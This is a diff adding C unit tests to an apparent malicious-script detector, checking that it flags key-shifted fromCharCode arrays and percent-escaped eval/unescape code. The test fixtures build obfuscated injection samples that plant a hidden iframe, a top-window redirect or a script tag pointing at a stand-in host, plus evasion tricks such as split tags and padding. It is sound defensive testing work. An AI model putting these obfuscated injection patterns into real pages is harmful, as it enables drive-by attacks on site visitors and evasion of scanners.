@@ -486,6 +486,141 @@ static void test_decoded_injections(void **state)
                 0);
 }
 
+static struct pageshape script(const char *s)
+{
+        struct pageshape m = {0};
+
+        pageshape_script_injections(s, strlen(s), &m);
+        return m;
+}
+
+/* The characters of text, each plus key, as a list of numbers into out: quoted ("116", ...),
+ * bare (116, ...) or in base 8 inside one string (for "...".split(",")). */
+static void shifted(char *out, size_t size, const char *text, int key, char form)
+{
+        size_t len = 0;
+
+        out[0] = '\0';
+        for (const char *t = text; *t && len + 8 < size; t++) {
+                int v = (unsigned char)*t + key;
+                len += (size_t)snprintf(out + len, size - len,
+                                        form == 'q'   ? "%s\"%d\""
+                                        : form == 'o' ? "%s%o"
+                                                      : "%s%d",
+                                        t == text     ? ""
+                                        : form == 'q' ? ", "
+                                                      : ",",
+                                        v);
+        }
+}
+
+/* A list of character codes moved by a key that decodes to code writing or making a script,
+ * frame or redirect counts, quoted, bare or in base 8, in a script or a page's block; a list
+ * whose text is no such code, a short list or a script that never names fromCharCode does
+ * not. */
+static void test_shifted_lists(void **state)
+{
+        (void)state;
+        static const char code[] =
+                "var f = document.createElement('iframe'); f.src = 'http://x.example/c.php'; "
+                "f.width = 1; document.body.appendChild(f);";
+        static const char redirect[] = "window.top.location.href='http://x.example/?a=1&b=2';";
+        static const char prose[] =
+                "the quick brown fox jumps over the lazy dog, again and again and again";
+        char list[4096], js[8192];
+
+        shifted(list, sizeof(list), code, 16, 'q');
+        snprintf(js, sizeof(js),
+                 "var a=[%s];var s=\"\";for(i=0;i<a.length;i++){s+=String.fromCharCode(a[i]-16);}"
+                 "eval(s);",
+                 list);
+        assert_int_equal(script(js).shifted_lists, 1);
+        /* no fromCharCode named: not looked at */
+        snprintf(js, sizeof(js), "var a=[%s];", list);
+        assert_int_equal(script(js).shifted_lists, 0);
+
+        shifted(list, sizeof(list), redirect, 56, 'b');
+        snprintf(js, sizeof(js),
+                 "function f(){a=56;b=[%s];c='';for(d=0;d<b.length;d++){c+=String.fromCharCode(b["
+                 "d]-a);}return c;}setTimeout(f(),1290);",
+                 list);
+        assert_int_equal(script(js).shifted_lists, 1);
+
+        shifted(list, sizeof(list), code, 4, 'o');
+        snprintf(js, sizeof(js),
+                 "ps=\"split\";a=(\"%s\"[ps](\",\"));for(i=0;i<a.length;i++){a[i]=-(7-3)+parseInt("
+                 "a[i],8);}eval(String.fromCharCode.apply(String,a));",
+                 list);
+        assert_int_equal(script(js).shifted_lists, 1);
+
+        /* in a page's block */
+        shifted(list, sizeof(list), code, 16, 'q');
+        snprintf(js, sizeof(js),
+                 "<html><body><p>x</p><script>var a=[%s];var s=\"\";for(i=0;i<a.length;i++){s+="
+                 "String.fromCharCode(a[i]-16);}eval(s);</script></body></html>",
+                 list);
+        assert_int_equal(page(js, NULL).shifted_lists, 1);
+
+        /* text that is no code of the page, and a list under 32 numbers */
+        shifted(list, sizeof(list), prose, 3, 'b');
+        snprintf(js, sizeof(js), "var a=[%s];eval(String.fromCharCode.apply(null,a));", list);
+        assert_int_equal(script(js).shifted_lists, 0);
+        shifted(list, sizeof(list), "document.write('<p>');", 1, 'b');
+        snprintf(js, sizeof(js), "var a=[%s];eval(String.fromCharCode.apply(null,a));", list);
+        assert_int_equal(script(js).shifted_lists, 0);
+        /* a table of bytes (0 to 255) spans more than printable text */
+        size_t len = 0;
+        for (int v = 0; v < 256; v++)
+                len += (size_t)snprintf(list + len, sizeof(list) - len, "%s%d", v ? "," : "", v);
+        snprintf(js, sizeof(js), "var t=[%s];function h(x){return String.fromCharCode(t[x]);}",
+                 list);
+        assert_int_equal(script(js).shifted_lists, 0);
+        /* names and numbers with four digits or a dot are not character codes */
+        assert_int_equal(script("String.fromCharCode;var a=[1.5,2.5,3.5,4.5,5.5,6.5,7.5,8.5,9.5,"
+                                "10.5,11.5,12.5,13.5,14.5,15.5,16.5,17.5,18.5,19.5,20.5,21.5,22.5,"
+                                "23.5,24.5,25.5,26.5,27.5,28.5,29.5,30.5,31.5,32.5,33.5];")
+                                 .shifted_lists,
+                         0);
+}
+
+/* A script kept apart from its page: one literal decoded and run or written whose code makes
+ * or writes a script from an address counts, also when the tag is glued from two literals
+ * ('<scr' + 'ipt') and when the code comes after the first 4 KiB of the escaped literal; the
+ * same literal kept in a variable does not, nor a script that decodes nothing. */
+static void test_script_decoded_injections(void **state)
+{
+        (void)state;
+        static const char code[] = "if (document.referrer) { document.write('<scr' + 'ipt "
+                                   "src=\"http://x.example/a.cgi\">"
+                                   "</sc' + 'ript>'); }";
+        char escaped[16384], js[20000];
+        size_t len = 0;
+
+        for (const char *t = code; *t; t++)
+                len += (size_t)snprintf(escaped + len, sizeof(escaped) - len, "%%%02X",
+                                        (unsigned char)*t);
+        snprintf(js, sizeof(js), "eval(unescape('%s'));", escaped);
+        assert_int_equal(script(js).decoded_injections, 1);
+        snprintf(js, sizeof(js), "var x = unescape('%s');", escaped);
+        assert_int_equal(script(js).decoded_injections, 0);
+
+        /* 1,500 escaped spaces before the code: the write comes after the first 4 KiB */
+        len = 0;
+        for (int k = 0; k < 1500; k++)
+                len += (size_t)snprintf(escaped + len, sizeof(escaped) - len, "%%20");
+        for (const char *t = code; *t; t++)
+                len += (size_t)snprintf(escaped + len, sizeof(escaped) - len, "%%%02X",
+                                        (unsigned char)*t);
+        snprintf(js, sizeof(js), "eval(unescape('%s'));", escaped);
+        assert_int_equal(script(js).decoded_injections, 1);
+
+        assert_int_equal(
+                script("document.write('<script src=\"http://x.example/a.js\"></script>');")
+                        .decoded_injections,
+                0);
+        assert_int_equal(script("").decoded_injections, 0);
+}
+
 static void test_hostile(void **state)
 {
         (void)state;
@@ -530,6 +665,8 @@ int main(void)
                 cmocka_unit_test(test_unclosed_hidden),
                 cmocka_unit_test(test_lone_frames),
                 cmocka_unit_test(test_decoded_injections),
+                cmocka_unit_test(test_shifted_lists),
+                cmocka_unit_test(test_script_decoded_injections),
         };
         return cmocka_run_group_tests(tests, NULL, NULL);
 }
